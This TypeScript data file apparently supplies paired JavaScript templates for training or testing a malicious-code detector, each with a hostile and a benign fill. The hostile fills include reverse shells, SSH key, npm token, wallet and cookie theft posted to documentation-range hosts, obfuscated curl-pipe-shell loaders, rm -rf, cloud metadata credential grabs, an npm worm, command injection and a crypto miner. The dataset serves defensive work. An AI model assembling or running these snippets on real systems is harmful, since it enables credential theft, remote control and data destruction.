import type { Pair } from './pair.ts';

export const JAVASCRIPT: readonly Pair[] = [
  [
    'read-key',
    `
const fs = require('fs');
const os = require('os');
const path = require('path');

const text = fs.readFileSync(path.join(os.homedir(), '§0'), 'utf8');
console.log(text.length, text.slice(0, 20));`,
    ['.ssh/id_rsa'],
    ['notes/today.txt'],
  ],
  [
    'send-environment',
    `
const https = require('https');

const body = JSON.stringify(§0);
const request = https.request({ hostname: '§1', method: 'POST', path: '/v1' });
request.write(body);
request.end();`,
    ['process.env', 'collect.example.net'],
    ['{ version: process.version }', 'api.example.com'],
  ],
  [
    'remove-tree',
    `
import { rmSync } from 'node:fs';

rmSync('§0', { recursive: true, force: true });`,
    ['/home'],
    ['./coverage'],
  ],
  [
    'reverse-shell',
    `
const net = require('net');
const { spawn } = require('child_process');

const link = net.connect(§0, '§1');
§2`,
    [
      '4444',
      '203.0.113.40',
      "const shell = spawn('/bin/sh', ['-i']);\nlink.pipe(shell.stdin);\nshell.stdout.pipe(link);",
    ],
    ['7000', 'localhost', "link.on('data', (chunk) => console.log(String(chunk), typeof spawn));"],
  ],
  [
    'eval-download',
    `
fetch('§0')
  .then((reply) => reply.text())
  .then((text) => §1);`,
    ['http://203.0.113.77/stage2.js', 'eval(text)'],
    ['https://api.example.com/motd.txt', 'console.log(text.trim())'],
  ],
  [
    'encoded-function',
    `
const text = Buffer.from('§0', 'base64').toString();
§1;`,
    [
      Buffer.from("require('child_process').execSync('curl -s http://203.0.113.9/x | sh')").toString('base64'),
      "new Function('require', text)(require)",
    ],
    [Buffer.from('The quick brown fox jumps over the lazy dog').toString('base64'), 'console.log(text)'],
  ],
  [
    'shell-command',
    `
const { execSync } = require('child_process');

console.log(execSync('§0').toString());`,
    ['curl -s http://203.0.113.9/install.sh | bash'],
    ['git log --oneline -n 5'],
  ],
  [
    'profile-line',
    `
const { appendFileSync } = require('fs');
const { homedir } = require('os');

appendFileSync(homedir() + '§0', '§1\\n');`,
    ['/.bashrc', '(sh -i >& /dev/tcp/203.0.113.4/9001 0>&1) &'],
    ['/journal.md', '- learnt about generators'],
  ],
  [
    'post-install-token',
    `
const fs = require('fs');

const token = fs.readFileSync(process.env.HOME + '§0', 'utf8');
§1`,
    ['/.npmrc', "fetch('http://203.0.113.15/t', { method: 'POST', body: token });"],
    ['/games/scores.txt', 'console.log(token.split("\\n").length);'],
  ],
  [
    'hidden-name',
    `
const loaded = require('§0');
const name = ['§1', '§2'].join('');
loaded[name]('§3');`,
    ['child_process', 'ex', 'ec', 'rm -rf ~/'],
    ['util', 'insp', 'ect', 'a piece of text'],
  ],
  [
    'metadata-address',
    `
async function main() {
  const reply = await fetch('§0');
  console.log(await reply.text());
}
main();`,
    ['http://169.254.169.254/latest/meta-data/iam/security-credentials/admin'],
    ['https://api.github.com/repos/nodejs/node'],
  ],
  [
    'command-from-request',
    `
const express = require('express');
const { exec, execFile } = require('child_process');

const app = express();
app.get('/look', (request, response) => {
  §0
});
app.listen(3000);`,
    ["exec('nslookup ' + request.query.host, (error, text) => response.send(text));"],
    ["execFile('uptime', [], (error, text) => response.send(text));"],
  ],
  [
    'eval-request',
    `
const http = require('http');

http.createServer((request, response) => {
  let body = '';
  request.on('data', (chunk) => { body += chunk; });
  request.on('end', () => response.end(String(§0)));
}).listen(8080, '127.0.0.1');`,
    ['eval(body)'],
    ['body.length'],
  ],
  [
    'overwrite-hosts',
    `
import { writeFile } from 'node:fs/promises';

await writeFile('§0', '§1\\n');`,
    ['/etc/hosts', '203.0.113.5 registry.npmjs.org'],
    ['out/summary.txt', 'all tests passed'],
  ],
  [
    'wallet-search',
    `
const fs = require('fs');
const path = require('path');

const folder = path.join(process.env.HOME, '§0');
for (const name of fs.readdirSync(folder)) {
  const content = fs.readFileSync(path.join(folder, name));
  §1
}`,
    ['.ethereum/keystore', "fetch('http://203.0.113.21/w', { method: 'POST', body: content });"],
    ['pictures/thumbnails', 'console.log(name, content.length);'],
  ],
  [
    'worm-publish',
    `
const { execSync } = require('child_process');
const fs = require('fs');

const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));
§0
fs.writeFileSync('package.json', JSON.stringify(manifest, null, 2));
§1`,
    [
      "manifest.scripts.postinstall = 'node -e \"require(\\'https\\').get(\\'http://203.0.113.2/x\\')\"';",
      "execSync('npm publish --access public');",
    ],
    ["manifest.version = '1.2.0';", "console.log(execSync('node --version').toString());"],
  ],
  [
    'exhaust',
    `
const blocks = [];
for (let index = 0; §0; index++) blocks.push(Buffer.alloc(§1));
console.log(blocks.length);`,
    ['true', '64 * 1024 * 1024'],
    ['index < 4', '1024'],
  ],
  [
    'detached-miner',
    `
const { spawn } = require('child_process');

const child = spawn('§0', [§1], { detached: §2, stdio: 'ignore' });
child.unref();`,
    ['./xmrig', "'-o', 'stratum+tcp://pool.example-mine.net:3333', '-u', '44AFexample'", 'true'],
    ['echo', "'the', 'work', 'is', 'done'", 'false'],
  ],
  [
    'cookies',
    `
const fs = require('fs');
const { homedir } = require('os');

const copy = fs.readFileSync(homedir() + '§0');
fs.writeFileSync('§1', copy);`,
    ['/.config/google-chrome/Default/Cookies', '/tmp/.c'],
    ['/music/playlist.m3u', 'playlist.bak'],
  ],
  [
    'character-codes',
    `
const text = String.fromCharCode(§0);
§1(text);`,
    [[...Buffer.from("require('child_process').execSync('rm -rf /home')")].join(', '), 'eval'],
    [[...Buffer.from('hello from numbers')].join(', '), 'console.log'],
  ],
];
